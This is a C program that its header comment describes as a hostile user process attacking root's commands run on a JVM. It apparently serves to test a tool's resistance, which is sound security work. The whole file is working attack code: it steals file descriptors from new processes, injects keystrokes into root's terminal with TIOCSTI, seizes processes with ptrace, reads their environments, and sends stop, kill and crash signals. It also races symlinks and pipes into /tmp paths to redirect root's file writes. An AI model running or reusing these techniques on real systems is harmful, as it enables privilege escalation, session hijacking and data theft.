/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A process of a JVM's user that attacks root's commands on this JVM, and prints what it attacks and gets.
 * hostile_user processes JVM...             attacks every new process of this user
 * hostile_user files VICTIM ASIDE JVM...    puts links to root's VICTIM, and pipes, in the place of files
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void pause_us(long us)
{
    nanosleep(&(struct timespec){.tv_nsec = us * 1000}, NULL);
}

static void got(pid_t pid, const char *what, const char *more)
{
    char path[32], name[32] = "?";
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    FILE *file = fopen(path, "r");
    if (file != NULL && fscanf(file, "%31s", name) >= 0)
        fclose(file);
    printf("got %s %s of %d %s\n", what, more, pid, name);
}

static void use_terminal(pid_t pid, int terminal)
{
    char keys[256];
    struct pollfd input = {.fd = terminal, .events = POLLIN};
    if (poll(&input, 1, 0) == 1 && read(terminal, keys, sizeof keys) > 0)
        got(pid, "keys", "typed by root");
    if (write(terminal, "attacked\r\n", 10) > 0)
        got(pid, "text", "onto root's screen");
    if (ioctl(terminal, TIOCSTI, "\n") == 0)
        got(pid, "a key", "typed for root");
}

static void take_descriptors(pid_t pid)
{
    int process = (int)syscall(SYS_pidfd_open, pid, 0);
    for (int i = 0; i <= 64; i++) {
        char path[32], link[256];
        int taken = (int)syscall(SYS_pidfd_getfd, process, i, 0);
        if (taken < 0 && errno == EPERM)
            break; /* refused whatever the number */
        if (taken < 0)
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", taken);
        ssize_t length = readlink(path, link, sizeof link - 1);
        link[length > 0 ? length : 0] = 0;
        got(pid, "the descriptor", link);
        if (isatty(taken))
            use_terminal(pid, taken);
        close(taken);
    }
    close(process);
}

static void look_into(pid_t pid)
{
    static const char *const files[] = {"maps", "environ", "fd/0", "fd/1", "fd/2", "root/.", "cwd/."};
    char path[64], link[256];
    for (unsigned i = 0; i < sizeof files / sizeof *files; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
        int file = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
        /* Those of a process that has just ended can be opened, and are empty. */
        if (file >= 0 && (i > 1 || read(file, link, sizeof link) > 0))
            got(pid, "the file", path);
        close(file);
    }
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    if (readlink(path, link, sizeof link) >= 0)
        got(pid, "the link", path);
}

static void trace(pid_t pid)
{
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0)
        return;
    got(pid, "control", "by ptrace");
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* Stops and continues it while it runs, and at last leaves it alone, stopped, or dead. */
static void attack(pid_t pid)
{
    static const int lasts[] = {SIGCONT, SIGSTOP, SIGCONT, SIGKILL, SIGCONT, SIGQUIT, SIGSEGV, SIGTERM};
    static unsigned turn;
    printf("attacks %d\n", pid);
    for (int round = 0; round < 20; round++) {
        if (kill(pid, SIGSTOP) != 0)
            return;
        take_descriptors(pid);
        trace(pid);
        look_into(pid);
        kill(pid, SIGWINCH);
        kill(pid, SIGCONT);
        pause_us(100);
    }
    kill(pid, lasts[turn++ % (sizeof lasts / sizeof *lasts)]);
}

static int is_among(pid_t pid, char **jvms)
{
    while (*jvms != NULL && atoi(*jvms) != pid)
        jvms++;
    return *jvms != NULL || pid == getpid();
}

/* Only new processes, and by a call that fails for threads, because stty takes less than a millisecond. */
static void attack_processes(char **jvms)
{
    static char known[1 << 22];
    int load = open("/proc/loadavg", O_RDONLY);
    for (;;) {
        char text[128] = "";
        if (pread(load, text, sizeof text - 1, 0) <= 0)
            abort();
        int newest = atoi(strrchr(text, ' '));
        for (pid_t pid = newest > 300 ? newest - 300 : 1; pid < newest + 20; pid++) {
            if (syscall(SYS_tgkill, pid, pid, 0) != 0)
                known[pid] = 0;
            else if (!known[pid] && !is_among(pid, jvms)) {
                known[pid] = 1;
                attack(pid);
            }
        }
    }
}

static void replace(const char *name, const char *victim, int by_pipe)
{
    char made[500];
    snprintf(made, sizeof made, "%s.made", name);
    if ((by_pipe ? mkfifo(made, 0666) : symlink(victim, made)) == 0 && rename(made, name) != 0)
        unlink(made);
}

/* The folder itself, or the files in it, which the command creates there or already has. */
static void replace_folder(const char *folder, const char *victim, const char *aside, unsigned turn)
{
    static const char *const names[] = {"report", "libthreadclock.so", "s", "jvm.jfr"};
    char name[400], other[400];
    printf("attacks %s\n", folder);
    snprintf(other, sizeof other, "%s/%u", aside, turn);
    if (turn % 3 == 0 && rename(folder, other) == 0)
        symlink(victim, folder);
    for (unsigned i = 0; turn % 3 != 0 && i < sizeof names / sizeof *names; i++) {
        snprintf(name, sizeof name, "%s/%s", folder, names[i]);
        snprintf(other, sizeof other, "%s/%s", victim, names[i]);
        replace(name, other, turn % 3 == 1);
    }
}

static void attack_files(const char *victim, const char *aside, char **jvms)
{
    for (unsigned turn = 0;; turn++, pause_us(500)) {
        char path[300];
        struct stat status;
        DIR *tmp = opendir("/tmp");
        for (struct dirent *file; tmp != NULL && (file = readdir(tmp)) != NULL;) {
            snprintf(path, sizeof path, "/tmp/%s", file->d_name);
            if (strncmp(file->d_name, "threadclock-", 12) == 0 && lstat(path, &status) == 0
                && status.st_uid == getuid() && S_ISDIR(status.st_mode))
                replace_folder(path, victim, aside, turn);
        }
        closedir(tmp);
        for (int i = 0; jvms[i / 2] != NULL; i++) {
            snprintf(path, sizeof path, "/tmp/.%s_pid%s", i % 2 == 0 ? "java" : "attach", jvms[i / 2]);
            if (turn % 100 == 0)
                replace(path, victim, turn / 100 % 2);
            else if (turn % 100 == 50)
                unlink(path);
        }
    }
}

int main(int count, char **arguments)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (count > 2 && strcmp(arguments[1], "processes") == 0)
        attack_processes(arguments + 2);
    if (count > 4 && strcmp(arguments[1], "files") == 0)
        attack_files(arguments[2], arguments[3], arguments + 4);
    return 2;
}
